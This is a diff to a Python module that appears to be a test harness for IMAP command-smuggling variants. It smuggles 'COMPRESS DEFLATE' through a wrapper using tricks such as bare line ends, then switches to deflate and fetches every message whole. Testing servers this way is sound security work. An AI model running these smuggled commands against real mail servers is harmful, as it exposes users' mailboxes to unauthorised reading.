@@ -15,6 +15,7 @@ place of a tag, two literals, bare LF and bare CR line ends, a NUL byte,
 an over-long line.
 """
 
+import re
 import time
 
 from .framework import Variant
@@ -113,13 +114,16 @@ def done_while_idling(conn, inner):
     return conn.drain(0.6, 15)
 
 
-def compress_then_fetch(conn, send_inner):
+def compress_then_fetch(conn, send_inner, wrapper_ends_line=True):
     """Smuggles COMPRESS DEFLATE, then speaks deflate itself and fetches
-    every message whole."""
-    send_inner(b"c1 COMPRESS DEFLATE\r\n")
-    if b"c1 OK" not in bytes(conn.received):
+    every message whole. When the wrapper ends the line after the
+    smuggled bytes, the command goes without its own CRLF: the server
+    inflates everything after that line, so nothing plain may follow."""
+    send_inner(b"c1 COMPRESS DEFLATE" + (b"" if wrapper_ends_line else b"\r\n"))
+    m = re.search(rb"c1 OK[^\n]*\n", bytes(conn.received))
+    if not m:
         return
-    conn.compress()
+    conn.compress(after=m.group(0))
     conn.send(b"f1 UID FETCH 1:* (BODY.PEEK[])\r\n")
     conn.drain(1.0, 20)
 
@@ -173,7 +177,9 @@ def variants():
             out.append(
                 Variant(
                     f"{name}/compress-deflate",
-                    lambda run, send=send: compress_then_fetch(run.session(), lambda inner: send(run.session(), inner)),
+                    lambda run, send=send, name=name: compress_then_fetch(
+                        run.session(), lambda inner: send(run.session(), inner), name != "bare-lf-after-noop"
+                    ),
                     control=control,
                 )
             )
